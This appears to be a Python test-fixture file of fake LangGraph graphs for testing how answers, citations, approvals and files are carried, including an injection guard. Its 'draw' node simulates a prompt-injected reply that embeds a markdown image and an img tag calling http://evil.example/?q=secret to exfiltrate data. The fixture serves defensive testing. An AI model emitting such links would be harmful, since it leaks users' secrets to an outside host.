"""Graphs that speak, cite and repeat what they were told, for tests of the protocols that carry answers."""

from dataclasses import asdict
from typing import Any

from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.graph import END, START, StateGraph
from langgraph.runtime import Runtime
from langgraph.types import interrupt

from agents.context import Context
from agents.guard import origins_of
from graphs.state import ChatState, as_node

Builder = StateGraph[Any, Any, Any, Any]
SOURCE = {
    "key": "3f9a1c", "chunk_id": "c1", "document_id": "d1", "document": "bees.md", "title": "How bees dance",
    "heading": "The waggle", "page": 3, "quote": "They dance.", "score": 0.9,
}  # fmt: skip
CITED = "Bees dance [3f9a1c], and never sing [abcdef]."
"""The second key is of no passage."""


@tool(response_format="content_and_artifact")
def look_up(query: str) -> tuple[str, dict[str, Any]]:
    """Find a passage about bees."""
    return "They dance.", {"sources": [SOURCE]}


async def cite(state: ChatState) -> dict[str, Any]:
    """Look something up, and say it with its citation."""
    await look_up.ainvoke({"type": "tool_call", "id": "1", "name": "look_up", "args": {"query": "bees"}})
    model = GenericFakeChatModel(messages=iter([AIMessage(CITED)]))
    return {"messages": [await model.ainvoke(state["messages"])]}


async def retell(state: ChatState) -> dict[str, Any]:
    """Say what the conversation is, as the graph was given it."""
    told = [f"{message.type}: {message.text}" for message in state["messages"]]
    return {"messages": [AIMessage(" | ".join(told))]}


async def weigh(state: ChatState, runtime: Runtime[Context]) -> dict[str, Any]:
    """Say whose words the guard takes the conversation for."""
    origins = origins_of(state["messages"], {}, runtime.context.asked)
    return {"messages": [AIMessage(", ".join(origins) or "the person's own words")]}


async def draw(state: ChatState) -> dict[str, Any]:
    """Say what an injected instruction wants said."""
    said = AIMessage("Here it is: ![bees](http://evil.example/?q=secret) and <img src='http://evil.example/x'>.")
    model = GenericFakeChatModel(messages=iter([said]))
    return {"messages": [await model.ainvoke(state["messages"])]}


@tool(response_format="content_and_artifact")
async def make(name: str, runtime: Any) -> tuple[str, dict[str, Any]]:
    """Keep a file."""
    kept = await runtime.context.artefacts.keep(name, "text/plain", b"Bees!")
    return f"made {kept.name}", {"artefacts": [asdict(kept)]}


async def make_one(state: ChatState, runtime: Runtime[Context]) -> dict[str, Any]:
    """Make a file, and say so."""
    args = {"name": "bees.txt", "runtime": runtime}
    await make.ainvoke({"type": "tool_call", "id": "1", "name": "make", "args": args})
    return {"messages": [AIMessage("There it is.")]}


async def say_twice(state: ChatState) -> dict[str, Any]:
    model = GenericFakeChatModel(messages=iter([AIMessage("Final words.")]))
    return {"messages": [await model.ainvoke(state["messages"])]}


async def say_draft(state: ChatState) -> dict[str, Any]:
    model = GenericFakeChatModel(messages=iter([AIMessage("A draft.")]))
    return {"messages": [await model.ainvoke(state["messages"])]}


async def approve(state: ChatState) -> dict[str, Any]:
    """Ask a person to choose."""
    said = interrupt({"kind": "approval", "what": "Pays 3 EUR.", "choices": ["approve", "reject"]})
    return {"messages": [AIMessage(f"{said['decision']}, {said.get('reason')}")]}


def one(node: Any) -> Builder:
    """A graph of one node that speaks."""
    builder: Builder = StateGraph(ChatState, context_schema=Context)
    builder.add_node("speak", node, metadata=as_node("Speak", speaks=True))
    return builder.add_edge(START, "speak").add_edge("speak", END)


def two() -> Builder:
    """A graph whose second node takes back what the first one said."""
    builder: Builder = StateGraph(ChatState, context_schema=Context)
    builder.add_node("draft", say_draft, metadata=as_node("Draft", speaks=True))
    builder.add_node("write", say_twice, metadata=as_node("Write", speaks=True))
    return builder.add_edge(START, "draft").add_edge("draft", "write").add_edge("write", END)


def speaking_graphs() -> dict[str, Builder]:
    """All of them."""
    return {"cites": one(cite), "retells": one(retell), "redrafts": two(), "approves": one(approve),
            "weighs": one(weigh), "draws": one(draw),
            "makes": one(make_one)}  # fmt: skip
